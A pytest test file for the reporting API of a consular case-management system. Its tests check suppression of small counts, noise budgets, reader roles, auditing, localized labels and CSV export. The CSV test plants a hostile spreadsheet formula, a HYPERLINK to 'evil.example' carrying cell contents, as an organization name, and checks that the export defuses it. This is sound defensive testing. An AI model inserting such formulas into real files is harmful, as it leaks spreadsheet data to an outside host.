"""Reports over the API: counts, suppression, who may read them, CSV export, audit, bad input."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal
from fractions import Fraction
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select, update
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession

from src.audit.models import AuditEvent
from src.auth.models import Organization
from src.cases import names
from src.cases.models import Case, Person
from src.platform import clock
from src.platform.config import Settings
from src.redress.models import LegalInstrument
from src.referrals.models import Referral
from src.reports import release
from src.reports.budget import ReportBudget
from src.reports.schemas import CaseReport
from src.seed import bench_data
from tests import factories
from tests.factories import Consulate, abuse_body, child_body, open_case, trafficking_body

PERSONAL = ("Айдаралиев", "Медетбек", "AC1234567", "+996", "1994-03-12")
CONSENT = {"purposes": ["referral", "partner_data_sharing"], "given_by": "self", "given_on": "2026-11-01"}


async def _open(
    client: httpx.AsyncClient, officer: factories.Account, body: dict[str, Any], n: int
) -> list[Any]:
    return [await open_case(client, officer, body) for _ in range(n)]


async def _events(db: AsyncSession, action: str | None = None) -> list[AuditEvent]:
    query = select(AuditEvent).order_by(AuditEvent.id)
    if action:
        query = query.where(AuditEvent.action == action)
    return list((await db.scalars(query)).all())


def _etag(account: factories.Account, etag: str) -> dict[str, str]:
    return {**account.headers, "If-Match": etag}


async def test_case_counts_show_only_groups_past_the_threshold(
    client: httpx.AsyncClient,
    db: AsyncSession,
    settings: Settings,
    consulate_a: Consulate,
    consulate_b: Consulate,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    await _open(client, consulate_a.officer, abuse_body(), 4)
    await _open(client, consulate_a.officer, child_body(), 3)
    await _open(client, consulate_b.officer, abuse_body(), 3)
    await _open(client, consulate_b.officer, trafficking_body(), 2)
    coordinator = await factories.account(db, settings, client, "coordinator")

    by_kind = await client.get("/v1/reports/cases?group_by=kind", headers=coordinator.headers)
    assert by_kind.status_code == 200, by_kind.text
    body = by_kind.json()
    assert body["min_cell"] == 5 and body["group_by"] == ["kind"]
    rows = {row["group"]["kind"]: (row["count"], row["suppressed"]) for row in body["rows"]}
    # 3 and 2 are below 5: groups that only the data makes are not listed at all below the row threshold
    # (here the minimum cell: the tests' noise is negligible), so their absence says nothing.
    assert rows == {"abuse": (7, False)}
    assert body["total"] == {"count": 12, "suppressed": False}
    assert body["privacy"]["row_threshold"] == 5 and body["privacy"]["epsilon"] > 0

    by_owner = await client.get(
        "/v1/reports/cases?group_by=owner_organization,kind", headers=coordinator.headers
    )
    assert by_owner.json()["rows"] == [] and by_owner.json()["total"]["count"] == 12
    monkeypatch.setattr(settings, "report_min_cell", 2)
    by_owner = await client.get(
        "/v1/reports/cases?group_by=owner_organization,kind", headers=coordinator.headers
    )
    cells = by_owner.json()["rows"]
    assert sorted(row["count"] for row in cells) == [2, 3, 3, 4]
    assert {row["labels"]["owner_organization"] for row in cells} == {
        consulate_a.officer.organization.name,
        consulate_b.officer.organization.name,
    }
    monkeypatch.setattr(settings, "report_min_cell", 5)

    quarter = clock.utcnow()
    by_quarter = await client.get("/v1/reports/cases?group_by=quarter", headers=coordinator.headers)
    expected = f"{quarter.year}-Q{(quarter.month - 1) // 3 + 1}"
    assert [(r["group"], r["count"]) for r in by_quarter.json()["rows"]] == [({"quarter": expected}, 12)]

    tomorrow = (clock.utcnow() + timedelta(days=1)).date().isoformat()
    later = await client.get(f"/v1/reports/cases?from={tomorrow}", headers=coordinator.headers)
    assert later.json()["rows"] == [] and later.json()["total"] == {"count": None, "suppressed": True}
    today = clock.utcnow().date().isoformat()
    within = await client.get(f"/v1/reports/cases?from={today}&to={today}", headers=coordinator.headers)
    assert within.json()["total"]["count"] == 12


async def test_a_grouping_finer_than_the_limit_is_refused_and_answers_keep_the_schema(
    client: httpx.AsyncClient,
    db: AsyncSession,
    settings: Settings,
    consulate_a: Consulate,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    await _open(client, consulate_a.officer, abuse_body(), 2)
    await _open(client, consulate_a.officer, child_body(), 2)
    monkeypatch.setattr(settings, "report_min_cell", 2)
    auditor = await factories.account(db, settings, client, "auditor")
    answer = await client.get(
        "/v1/reports/cases?group_by=owner_organization,kind,quarter", headers=auditor.headers
    )
    assert answer.headers["content-type"] == "application/json"
    # The case report is serialized without FastAPI's validation (for speed): it must still fit the contract.
    assert CaseReport.model_validate(answer.json()).model_dump(mode="json", by_alias=True) == answer.json()
    monkeypatch.setattr(settings, "report_max_groups", 1)
    before = await db.scalar(select(func.max(AuditEvent.id)))
    refused = await client.get("/v1/reports/cases?group_by=kind", headers=auditor.headers)
    assert refused.status_code == 422 and refused.json()["errors"][0]["loc"] == ["query", "group_by"]
    # Whether there are too many groups is itself an answer (a noisy one): it spends the read, audited.
    (event,) = (await db.scalars(select(AuditEvent).where(AuditEvent.id > before))).all()
    assert (event.action, event.outcome) == ("report.cases", "failure")
    spent = await db.scalar(
        select(ReportBudget.spent).where(ReportBudget.organization_id == auditor.organization.id)
    )
    assert spent == 2 * Decimal(str(settings.report_epsilon))  # the answered read above, and the refused one
    monkeypatch.setattr(settings, "report_max_groups", 2)  # exactly as many groups as allowed: answered
    exact = await client.get("/v1/reports/cases?group_by=kind", headers=auditor.headers)
    assert exact.status_code == 200 and [row["group"]["kind"] for row in exact.json()["rows"]] == [
        "abuse",
        "child_return",
    ]


async def test_case_report_labels_follow_accept_language(
    client: httpx.AsyncClient,
    db: AsyncSession,
    settings: Settings,
    consulate_a: Consulate,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    await _open(client, consulate_a.officer, abuse_body(), 2)
    await _open(client, consulate_a.officer, trafficking_body(), 2)
    monkeypatch.setattr(settings, "report_min_cell", 2)
    coordinator = await factories.account(db, settings, client, "coordinator")
    path = "/v1/reports/cases?group_by=kind,owner_organization,status"
    labels = {}
    for language in ("ky", "ru", "en"):
        answer = await client.get(path, headers={**coordinator.headers, "Accept-Language": language})
        assert answer.status_code == 200, answer.text
        assert answer.headers["content-language"] == language and "Accept-Language" in answer.headers["vary"]
        labels[language] = {row["group"]["kind"]: row["labels"] for row in answer.json()["rows"]}
    organization = consulate_a.officer.organization.name
    assert labels["ky"] == {
        "abuse": {
            "kind": "Эмгек мигрантынын укуктарын бузуу",
            "status": "Кайрылууну кабыл алуу",
            "owner_organization": organization,
        },
        "trafficking": {
            "kind": "Адам сатуу",
            "status": "Кайрылууну кабыл алуу",
            "owner_organization": organization,
        },
    }
    assert labels["ru"]["abuse"]["kind"] == "Нарушение прав трудового мигранта"
    assert labels["en"]["trafficking"]["kind"] == "Trafficking in persons"
    by_channel = await client.get(
        "/v1/reports/cases?group_by=intake_channel", headers={**coordinator.headers, "Accept-Language": "ky"}
    )
    assert all(set(row["labels"]) == {"intake_channel"} for row in by_channel.json()["rows"])


async def test_small_totals_are_hidden_too(
    client: httpx.AsyncClient, db: AsyncSession, settings: Settings, consulate_a: Consulate
) -> None:
    await _open(client, consulate_a.officer, abuse_body(), 3)
    auditor = await factories.account(db, settings, client, "auditor")
    report = (await client.get("/v1/reports/cases", headers=auditor.headers)).json()
    assert report["rows"] == [] and report["total"] == {"count": None, "suppressed": True}


async def test_only_coordinators_and_auditors_read_reports_and_each_read_is_audited(
    client: httpx.AsyncClient, db: AsyncSession, settings: Settings, consulate_a: Consulate
) -> None:
    await _open(client, consulate_a.officer, abuse_body(), 1)
    paths = ["/v1/reports/cases", "/v1/reports/referrals", "/v1/reports/redress", "/v1/reports/timeliness"]
    for role in ("coordinator", "auditor"):
        account = await factories.account(db, settings, client, role)
        for path in paths:
            for export in ("json", "csv"):
                response = await client.get(f"{path}?format={export}", headers=account.headers)
                assert response.status_code == 200, (role, path, response.text)
                assert response.headers["cache-control"] == "no-store"
                assert not any(value in response.text for value in PERSONAL)
    events = [e for e in await _events(db) if e.action.startswith("report.")]
    assert len(events) == 16 and {e.outcome for e in events} == {"success"}
    assert {e.detail["format"] for e in events} == {"json", "csv"}
    assert {e.resource_type for e in events} == {"report"}
    for account in (consulate_a.officer, consulate_a.supervisor):
        assert (await client.get(paths[0], headers=account.headers)).status_code == 403
    for role in ("partner", "admin"):
        account = await factories.account(db, settings, client, role)
        for path in paths:
            response = await client.get(path, headers=account.headers)
            assert response.status_code == 403
            assert response.headers["content-type"] == "application/problem+json"
    denied = [e for e in await _events(db) if e.action.startswith("report.") and e.outcome == "denied"]
    assert len(denied) == 2 + 2 * len(paths)
    assert (await client.get(paths[0])).status_code == 401


@pytest.mark.parametrize(
    "query",
    [
        "/v1/reports/cases?group_by=name",
        "/v1/reports/cases?group_by=kind,kind",
        "/v1/reports/cases?group_by=",
        "/v1/reports/cases?group_by=" + "kind," * 60,
        "/v1/reports/cases?from=2026-11-02&to=2026-11-01",
        "/v1/reports/referrals?from=yesterday",
        "/v1/reports/redress?format=xlsx",
        "/v1/reports/timeliness?to=2026-13-01",
    ],
)
async def test_bad_parameters_are_422_and_write_nothing(
    client: httpx.AsyncClient, db: AsyncSession, settings: Settings, query: str
) -> None:
    coordinator = await factories.account(db, settings, client, "coordinator")
    before = await db.scalar(select(func.count()).select_from(AuditEvent))
    response = await client.get(query, headers=coordinator.headers)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["errors"][0]["loc"][0] == "query"
    assert await db.scalar(select(func.count()).select_from(AuditEvent)) == before


async def test_csv_is_rfc_4180_with_a_bom_and_defused_formulas(
    client: httpx.AsyncClient,
    db: AsyncSession,
    settings: Settings,
    consulate_a: Consulate,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Консульство, \u00abОш\u00bb")'
    await db.execute(
        update(Organization)
        .where(Organization.id == consulate_a.officer.organization.id)
        .values(name=hostile)
    )
    await db.commit()
    await _open(client, consulate_a.officer, abuse_body(), 5)
    auditor = await factories.account(db, settings, client, "auditor")
    response = await client.get(
        "/v1/reports/cases?group_by=owner_organization,kind&format=csv&to=2099-12-31", headers=auditor.headers
    )
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    assert disposition == (
        "attachment; filename=\"ukuk-cases-2099-12-31.csv\"; filename*=UTF-8''ukuk-cases-2099-12-31.csv"
    )
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw[3:].split(b"\r\n")
    assert lines[-1] == b"" and all(b"\n" not in line for line in lines)
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert table[0] == [
        "level",
        "owner_organization",
        "kind",
        "owner_organization_name",
        "count",
        "suppressed",
    ]
    group = table[1]
    assert group[0] == "group" and group[2] == "abuse" and group[4] == "5" and group[5] == "false"
    assert group[3] == "'" + hostile  # a spreadsheet shows it as text instead of running it
    assert table[2] == ["total", "", "", "", "5", "false"]


def test_content_disposition_encodes_any_filename() -> None:
    from src.reports.export import content_disposition

    assert content_disposition('отчёт "Ош" 2026.csv') == (
        'attachment; filename="_____ ____ 2026.csv"; '
        "filename*=UTF-8''%D0%BE%D1%82%D1%87%D1%91%D1%82%20%22%D0%9E%D1%88%22%202026.csv"
    )


async def test_referral_report_per_partner(
    client: httpx.AsyncClient,
    db: AsyncSession,
    settings: Settings,
    consulate_a: Consulate,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    ngo = await factories.account(db, settings, client, "partner")
    referrals = []
    for case in await _open(client, consulate_a.officer, abuse_body(consent=CONSENT), 4):
        body = {
            "to_organization_id": str(ngo.organization.id),
            "services": ["legal_aid"],
            "urgency": "high",
            "reason": "Needs a lawyer.",
            "share": ["basic"],
        }
        sent = await client.post(
            f"/v1/cases/{case['id']}/referrals", json=body, headers=consulate_a.officer.headers
        )
        assert sent.status_code == 201, sent.text
        referrals.append(sent.json()["id"])
    clock.advance(timedelta(hours=5))
    await factories.sign_in_again(client, ngo)
    for rid, action in zip(referrals, ("accept", "accept", "decline", "decline"), strict=True):
        done = await client.post(f"/v1/referrals/{rid}/{action}", json={"note": "ok"}, headers=ngo.headers)
        assert done.status_code == 200, done.text
    coordinator = await factories.account(db, settings, client, "coordinator")

    hidden = (await client.get("/v1/reports/referrals", headers=coordinator.headers)).json()
    # Every organization is a row known whatever the data; none has a count of 5 to show.
    assert hidden["rows"] == []
    assert hidden["total"]["sent"] is None and hidden["total"]["median_hours_to_accept"] is None

    monkeypatch.setattr(settings, "report_min_cell", 2)
    shown = (await client.get("/v1/reports/referrals", headers=coordinator.headers)).json()
    (row,) = shown["rows"]
    assert {k: row[k] for k in ("sent", "pending", "accepted", "declined", "completed")} == {
        "sent": 4,
        "pending": 0,
        "accepted": 2,
        "declined": 2,
        "completed": 0,
    }
    # The median on the grid's bin that holds 5 hours: within its width (±11%).
    assert row["median_hours_to_accept"] == pytest.approx(5.0, rel=0.12) and row["suppressed"] == []
    assert shown["total"]["sent"] == 4 and shown["total"]["accepted"] is None
    exported = await client.get("/v1/reports/referrals?format=csv", headers=coordinator.headers)
    table = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    assert [(r["level"], r["sent"], r["accepted"]) for r in table] == [
        ("group", "4", "2"),
        ("total", "4", ""),
    ]


async def test_redress_report_per_instrument_forum_and_currency(
    client: httpx.AsyncClient,
    db: AsyncSession,
    settings: Settings,
    consulate_a: Consulate,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    instrument = str(
        await db.scalar(select(LegalInstrument.id).where(LegalInstrument.code == "KG-RU-LABOUR-1996"))
    )
    claims = [
        ("100000.10", "filed"),
        ("5.00", "in_progress"),
        ("50000.20", "granted"),
        ("70000.30", "settled"),
        ("1.00", "planned"),
    ]
    for amount, status in claims:
        case = await open_case(client, consulate_a.officer, abuse_body())
        body = {
            "instrument_id": instrument,
            "forum": "court",
            "claim": {"amount": amount, "currency": "RUB"},
            "status": status,
        }
        if status in ("granted", "settled"):
            body["recovered"] = {"amount": "40000.05", "currency": "RUB"}
        created = await client.post(
            f"/v1/cases/{case['id']}/redress", json=body, headers=consulate_a.officer.headers
        )
        assert created.status_code == 201, created.text
    monkeypatch.setattr(settings, "report_min_cell", 2)
    coordinator = await factories.account(db, settings, client, "coordinator")
    report = (await client.get("/v1/reports/redress", headers=coordinator.headers)).json()
    (row,) = report["rows"]
    assert row["instrument_code"] == "KG-RU-LABOUR-1996" and row["forum"] == "court"
    # planned (1) is hidden, and filed (2, the smallest other) with it: two ones could not be hidden alone.
    assert (row["actions"], row["granted"], row["planned"], row["filed"]) == (5, 2, None, None)
    assert set(row["suppressed"]) == {"planned", "filed"}
    assert row["money"] == [{"currency": "RUB", "claimed": "220007", "recovered": "80000", "suppressed": []}]
    assert report["total"]["actions"] == 5
    exported = await client.get("/v1/reports/redress?format=csv", headers=coordinator.headers)
    table = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    assert table[0]["claimed_RUB"] == "220007" and table[0]["suppressed"] == "planned filed"

    # At a production epsilon, the noise on a sum of five claims (a case can move it by three capped
    # amounts) is far larger than the sum: it is withheld.
    assert release.money(Decimal("220006.60"), "RUB", 2 * release.BOUND, Fraction(1, 2)) is None
    assert release.money(Decimal("9e10"), "RUB", 2 * release.BOUND, Fraction(1, 2)) is not None


async def test_a_sum_counts_each_amount_up_to_its_currency_cap_and_no_uncapped_currency(
    client: httpx.AsyncClient,
    db: AsyncSession,
    settings: Settings,
    consulate_a: Consulate,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """One large claim cannot dominate a sum: it counts as the cap (KZT 5 000 000), which the noise is scaled
    to. A currency without a cap is not summed at all."""
    for amount, currency in (("9000000.00", "KZT"), ("10.00", "KZT"), ("10.00", "KZT"), ("500.00", "GBP")):
        case = await open_case(client, consulate_a.officer, abuse_body())
        body = {
            "forum": "employer_negotiation",
            "claim": {"amount": amount, "currency": currency},
            "status": "filed",
        }
        created = await client.post(
            f"/v1/cases/{case['id']}/redress", json=body, headers=consulate_a.officer.headers
        )
        assert created.status_code == 201, created.text
    monkeypatch.setattr(settings, "report_min_cell", 2)
    coordinator = await factories.account(db, settings, client, "coordinator")
    (row,) = (await client.get("/v1/reports/redress", headers=coordinator.headers)).json()["rows"]
    assert row["instrument_id"] is None and row["filed"] == 4
    assert row["money"] == [
        {"currency": "KZT", "claimed": "5000020", "recovered": None, "suppressed": ["recovered"]}
    ]


async def test_timeliness_counts_overdue_cases_and_median_days(
    client: httpx.AsyncClient,
    db: AsyncSession,
    settings: Settings,
    consulate_a: Consulate,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    _late, moved = await _open(client, consulate_a.officer, abuse_body(), 2)
    clock.advance(timedelta(days=4))
    await factories.sign_in_again(client, consulate_a.officer)
    response = await client.post(
        f"/v1/cases/{moved['id']}/transitions",
        json={"to": "triage"},
        headers=_etag(consulate_a.officer, '"1"'),
    )
    assert response.status_code == 200, response.text
    monkeypatch.setattr(settings, "report_min_cell", 1)
    auditor = await factories.account(db, settings, client, "auditor")
    report = (await client.get("/v1/reports/timeliness", headers=auditor.headers)).json()
    rows = {(r["kind"], r["state"]): r for r in report["rows"]}
    assert rows[("abuse", "intake")]["cases"] == 1 and rows[("abuse", "intake")]["overdue"] == 1
    assert rows[("abuse", "intake")]["median_days"] == pytest.approx(4.0, rel=0.12)  # its grid bin
    assert rows[("abuse", "triage")] == {
        "kind": "abuse",
        "state": "triage",
        "labels": {"kind": "Abuse of a labour migrant", "state": "Triage"},
        "cases": 1,
        "overdue": 0,
        "median_days": None,  # no stay in triage ended
        "suppressed": ["median_days"],
    }
    assert rows[("trafficking", "screening")]["cases"] == 0
    assert report["total"]["cases"] == 2

    monkeypatch.setattr(settings, "report_min_cell", 5)
    hidden = (await client.get("/v1/reports/timeliness", headers=auditor.headers)).json()
    intake = next(r for r in hidden["rows"] if (r["kind"], r["state"]) == ("abuse", "intake"))
    assert intake["cases"] is None and set(intake["suppressed"]) == {"cases", "overdue", "median_days"}
    assert hidden["total"]["cases"] is None


async def test_benchmark_data_is_what_the_reports_count(
    client: httpx.AsyncClient, db: AsyncSession, settings: Settings, owner_engine: AsyncEngine
) -> None:
    """`make bench` runs on this generator: its rows must be ones the application understands."""
    async with owner_engine.begin() as conn:
        seeded = await bench_data.seed(conn, 400, persons_per_case=3)
    assert seeded.cases == 400 and seeded.transitions >= 400 and seeded.referrals > 0
    auditor = await factories.account(db, settings, client, "auditor")
    by_kind = (await client.get("/v1/reports/cases?group_by=kind", headers=auditor.headers)).json()
    assert by_kind["total"]["count"] == 400 and {r["group"]["kind"] for r in by_kind["rows"]} == {
        "abuse",
        "child_return",
        "trafficking",
    }
    referrals = (await client.get("/v1/reports/referrals", headers=auditor.headers)).json()
    assert referrals["total"]["sent"] == seeded.referrals
    assert referrals["total"]["median_hours_to_accept"] is not None
    timeliness = (await client.get("/v1/reports/timeliness", headers=auditor.headers)).json()
    assert timeliness["total"]["cases"] == 400
    assert any(row["median_days"] is not None for row in timeliness["rows"])
    redress = (await client.get("/v1/reports/redress", headers=auditor.headers)).json()
    assert redress["total"]["actions"] == seeded.redress_actions

    # and its people and sealed fields are what intake would have stored
    persons = (await db.execute(select(Person.full_name, Person.name_key, Person.position))).all()
    assert len(persons) == 1200 and {p.position for p in persons} == {0, 1, 2}
    assert all(names.skeleton(p.full_name) == p.name_key for p in persons)
    case = await db.scalar(select(Case).limit(1))
    referral = await db.scalar(select(Referral).limit(1))
    assert case is not None and case.summary == "Generated case." and case.details == {}
    assert referral is not None and referral.reason == "Generated referral."
